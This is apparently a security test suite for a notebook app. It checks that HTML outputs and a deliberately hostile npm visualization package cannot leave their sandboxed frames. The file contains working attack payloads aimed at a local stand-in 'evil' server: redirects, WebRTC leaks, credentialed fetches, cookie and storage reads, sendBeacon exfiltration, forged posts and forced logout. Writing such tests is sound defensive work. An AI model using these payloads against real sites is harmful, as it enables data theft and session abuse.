/**
 * What leaves the frame of an output or a package: in the app, and on a page of another origin that
 * has no policy of its own.
 */
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { createClient } from '@tiding/client';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium.ts';
import { ADMIN_PASSWORD, startEmbedded } from '../support/embedded.ts';
import { startRegistry } from '../support/npm-registry.ts';
import { openPage, signIn } from '../support/page.ts';
import { untilEnd } from '../support/until-end.ts';

/** Time in which whatever leaves a frame arrives, in ms. */
const ARRIVAL_MS = 1_500;
let hits: string[] = [];
let packets = 0;

const listening = (server: Server): Promise<string> =>
  new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
    ),
  );
const rtc = (where = 'window'): string =>
  `const peer = new (${where}).RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:` +
  `${stun.address().port}" }] }); peer.createDataChannel("x"); ` +
  'peer.createOffer().then((offer) => peer.setLocalDescription(offer));';
const nested = (): string => JSON.stringify(`<script>${rtc()}</script>`).replaceAll('</', '<\\/');

/** Another host. */
const evil = createServer((request, response) => {
  hits.push(request.url ?? '');
  response.end('gone');
});
const evilUrl = await listening(evil);
/** A server that WebRTC asks for its address. */
const stun = untilEnd(createSocket('udp4'));
stun.on('message', () => (packets += 1));
await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
const portal = createServer((request, response) => {
  const [, note, paragraph] = (request.url ?? '').split('/');
  response.writeHead(200, { 'Content-Type': 'text/html' });
  response.end(
    `<!doctype html><body><tiding-paragraph server="${embedded.server.url}" note="${note}" ` +
      `paragraph="${paragraph}"></tiding-paragraph><script>` +
      `document.querySelector('tiding-paragraph').token = '${token}'</script>` +
      `<script type="module" src="${embedded.server.url}/tiding.js"></script>`,
  );
});
const portalUrl = await listening(portal);
const registry = untilEnd(await startRegistry());
const embedded = untilEnd(
  await startEmbedded({ allowOrigins: [portalUrl], heliumRegistry: registry.url }),
);
const client = untilEnd(createClient({ server: embedded.server.url }));
await client.session.login('admin', ADMIN_PASSWORD);
const token = (await client.tokens.create({ description: 'portal' })).token!;
const browser = untilEnd(await launchChromium());

afterAll(async () => {
  for (const server of [portal, evil]) server?.close();
});

/** Stores an HTML output in a note of the administrator. */
async function noteWith(html: string): Promise<{ note: string; paragraph: string }> {
  const id = await client.notes.create({ path: `escape/${Math.random()}` });
  const note = await client.open(id);
  const paragraph = note.paragraphs[0]!;
  paragraph.edit(`%js\nconsole.log(${JSON.stringify(`%html ${html}`)})`);
  expect((await paragraph.run()).status).toBe('FINISHED');
  await client.call('setTrust', { params: { noteId: id }, body: { trusted: true } });
  const ids = { note: id, paragraph: paragraph.id };
  note.close();
  return ids;
}

/** Shows an output on the portal's page, and returns the addresses of the frames that loaded. */
async function show(page: Page, html: string): Promise<string[]> {
  const frames: string[] = [];
  page.on('framenavigated', (frame) => void frames.push(frame.url()));
  const { note, paragraph } = await noteWith(html);
  hits = [];
  packets = 0;
  await page.goto(`${portalUrl}/${note}/${paragraph}`);
  await page.locator('tiding-paragraph article').waitFor();
  const isShown = () => frames.some((url) => /\/output-frame\/1.*nested/.test(url));
  await expect.poll(isShown, { timeout: 30_000 }).toBe(true);
  await wait(ARRIVAL_MS);
  return frames;
}

describe('an output on a page without a policy', () => {
  const outputs: Record<string, () => string> = {
    'is led away by a refresh': () =>
      `<meta http-equiv="refresh" content="0;url=${evilUrl}/refresh"><script></script>`,
    'is led away by a refresh without being trusted': () =>
      `<meta http-equiv="refresh" content="0;url=${evilUrl}/refresh"><p>shown</p>`,
    'leads itself away by a script': () =>
      `<p>shown</p><script>location = "${evilUrl}/script"</script>`,
    'opens a link in itself': () =>
      `<a id="a" href="${evilUrl}/link" target="_self">x</a><script>a.click()</script>`,
    'sends a form': () =>
      `<form id="f" action="${evilUrl}/form"></form><script>f.submit()</script>`,
    'leads the page around it away': () =>
      `<script>try { parent.location = "${evilUrl}/parent" } catch {}</script>`,
    'uses WebRTC': () => `<script>${rtc()}</script>`,
    'uses WebRTC in a frame of its own': () =>
      `<script>const f = document.createElement("iframe"); f.srcdoc = ${nested()};` +
      'document.body.append(f)</script>',
    'uses WebRTC in a frame that is parsed': () =>
      `<iframe srcdoc="${`<script>${rtc()}</script>`.replaceAll('"', '&quot;')}"></iframe>`,
    'uses WebRTC in a shadow root': () =>
      '<div id="h"></div><script>const f = document.createElement("iframe");' +
      `f.srcdoc = ${nested()}; h.attachShadow({ mode: "closed" }).append(f)</script>`,
    'uses WebRTC in a parsed shadow root': () =>
      '<div><template shadowrootmode="closed"><iframe srcdoc="' +
      `${`<script>${rtc()}</script>`.replaceAll('"', '&quot;')}"></iframe></template></div>`,
  };
  for (const [title, html] of Object.entries(outputs))
    it(`reaches no other host if it ${title}`, async () => {
      const { page, close } = await openPage(browser);
      const frames = await show(page, html());
      expect(frames).toContain(
        `${embedded.server.url}/output-frame/1${html().includes('<script') ? '' : '/still'}?nested`,
      );
      expect({ hits, packets }).toEqual({ hits: [], packets: 0 });
      await expect.poll(() => page.url()).toContain(portalUrl);
      await close();
    });

  it('is shown at its height, in a frame of a page of the server', async () => {
    const { page, close } = await openPage(browser);
    await show(page, '<p id="deep" style="height: 345px">shown</p>');
    const frame = page.locator('tiding-paragraph iframe');
    await expect.poll(() => frame.getAttribute('src')).toContain('/nested/output-frame/1');
    await expect.poll(async () => (await frame.boundingBox())?.height).toBeGreaterThan(345);
    await expect
      .poll(() => frame.contentFrame().frameLocator('iframe').locator('#deep').textContent())
      .toBe('shown');
    await close();
  });
});

it('an output in the app does not use WebRTC', async () => {
  const { note } = await noteWith(`<p>shown</p><script>${rtc()}</script>`);
  const { page, close } = await openPage(browser);
  await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
  packets = 0;
  await page.goto(`${embedded.server.url}/#/notebook/${note}`);
  await page.locator('iframe').first().waitFor();
  await wait(ARRIVAL_MS);
  expect(packets).toBe(0);
  // The browser does offer it to other pages.
  await page.goto(evilUrl);
  await page.evaluate(rtc());
  await expect.poll(() => packets).toBeGreaterThan(0);
  await close();
});

/** Runs in the frame of a package, and writes into the frame's body what it reached. */
function attack(url: string, evil: string): void {
  const shut = (): never => {
    throw new Error('shut');
  };
  const answered = (start: (yes: () => void, no: () => void) => void) =>
    new Promise<void>((yes, no) => {
      setTimeout(no, 1_000);
      start(yes, no);
    });
  const call = `${url}/api/notebook`;
  const credentials = 'include';
  const forged = '{"name":"forged"}';
  const attacks: Record<string, () => unknown> = {
    page: () => parent.document.title,
    top: () => top!.document.title,
    storage: () => localStorage.length,
    'storage of the page': () => parent.localStorage.length,
    cookies: () => document.cookie,
    databases: () => indexedDB.open('x'),
    caches: () => caches.open('x'),
    call: () => fetch(call, { credentials }),
    change: () => fetch(call, { method: 'POST', mode: 'no-cors', credentials, body: forged }),
    request: () =>
      answered((yes, no) => {
        const request = new XMLHttpRequest();
        Object.assign(request, { withCredentials: true, onload: yes, onerror: no });
        request.open('GET', call);
        request.send();
      }),
    socket: () =>
      answered((onopen, onerror) =>
        Object.assign(new WebSocket(`${url.replace('http', 'ws')}/ws`), { onopen, onerror }),
      ),
    events: () =>
      answered((onopen, onerror) => Object.assign(new EventSource(call), { onopen, onerror })),
    picture: () =>
      answered((onload, onerror) =>
        Object.assign(new Image(), { onload, onerror, src: `${url}/icon.svg` }),
      ),
    script: () =>
      answered((onload, onerror) => {
        const script = document.createElement('script');
        document.head.append(Object.assign(script, { onload, onerror, src: `${evil}/x.js` }));
      }),
    worker: () =>
      answered((yes, no) => {
        const code = `fetch('${call}').then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = ({ data }) => (data ? yes() : no());
      }),
    window: () => window.open(`${evil}/window`) ?? shut(),
    // The browser says yes; the other host would see it.
    beacon: () => [navigator.sendBeacon(`${evil}/beacon`), shut()],
  };
  const place = { url: `${evil}/link`, href: `${evil}/link` };
  const message = { ...place, config: { stolen: 1 }, height: 1e9, message: 'forged' };
  const types = ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'];
  for (const target of [parent, top!])
    for (const type of types) target.postMessage({ ...message, type }, '*');
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: `${url}/api/login/logout`, target: '_top' });
  document.body.append(form);
  form.submit();
  for (const target of [top!, parent])
    try {
      target.location.href = `${evil}/top`;
    } catch {}
  const tries = Object.entries(attacks).map(async ([name, attempt]) => {
    try {
      await attempt();
      return [name];
    } catch {
      return [];
    }
  });
  void Promise.all(tries).then((reached) => {
    document.body.dataset['reached'] = reached.flat().join(', ') || 'nothing';
  });
}

describe('a package that attacks', () => {
  const NAME = 'a-hostile-view';
  let page: Page;
  let pageClosed: () => Promise<void>;

  /** Shows a table with the package in the app of a user, or on the portal's page. */
  async function open(place: string, body: string): Promise<void> {
    const version = `1.0.${Math.floor(Math.random() * 1e9)}`;
    registry.publish(NAME, version, {
      more: { keywords: ['zeppelin-visualization'], dependencies: { 'zeppelin-vis': '*' } },
      files: {
        'package/index.js':
          "import Visualization from 'zeppelin-vis';" +
          "import Passthrough from 'zeppelin-tabledata/passthrough';" +
          'export default class extends Visualization {' +
          'getTransformation() { return new Passthrough({}); }' +
          `render() { if (this.done) return; this.done = true; ${body} } }`,
      },
    });
    await client.packages.enable(NAME, `${NAME}@${version}`);
    const note = await client.open(await client.notes.create({ path: `packages/${version}` }));
    const paragraph = note.paragraphs[0]!;
    paragraph.edit("%js\nconsole.log('%table a\\tb\\n1\\t2')");
    expect((await paragraph.run()).status).toBe('FINISHED');
    await paragraph.configure({ results: { 0: { graph: { mode: NAME } } } });
    const address =
      place === 'the app'
        ? `${embedded.server.url}/#/notebook/${note.id}`
        : `${portalUrl}/${note.id}/${paragraph.id}`;
    note.close();
    const watched = await openPage(browser);
    [page, pageClosed] = [watched.page, watched.close];
    await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
    hits = [];
    packets = 0;
    await page.goto(address);
  }

  it.each(['the app', 'the portal'])('in %s reaches nothing [S97]', async (place) => {
    const { url } = embedded.server;
    await open(place, `(${attack})('${url}', '${evilUrl}'); try { ${rtc()} } catch {}`);
    const before = page.url();
    const outer = page.frameLocator('iframe.package-frame');
    const frame = place === 'the app' ? outer : outer.frameLocator('iframe');
    await expect.poll(() => frame.locator('body').getAttribute('data-reached')).toBe('nothing');
    await wait(ARRIVAL_MS);
    expect({ hits, packets, url: page.url() }).toEqual({ hits: [], packets: 0, url: before });
    expect((await client.notes.list()).map(({ path }) => path)).not.toContain('forged');
    expect(await page.getByRole('alertdialog').count()).toBe(0);
    expect((await page.request.get(`${url}/api/notebook`)).status()).toBe(200);
    await pageClosed();
  });

  it.each([
    ['leads its frame away', 'location = target'],
    ['leads its frame away later', 'setTimeout(() => (location = target), 500)', true],
    ['floods the page', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
    ['floods its view', 'for (let n = 0; n < 500; n += 1) this.emitConfig({ n })', true],
  ])('and %s reaches nothing, and is stopped [S97]', async (_, attack, isStopped = false) => {
    for (const place of ['the app', 'the portal']) {
      await open(place, `const target = '${evilUrl}/self'; ${attack}`);
      if (isStopped) await page.getByText('Try again').first().waitFor();
      else await page.locator('article').getByText('Took').waitFor();
      expect(await page.locator('iframe.package-frame').count()).toBeLessThan(isStopped ? 1 : 2);
      await wait(ARRIVAL_MS);
      expect(hits).toEqual([]);
      await pageClosed();
    }
  });
});
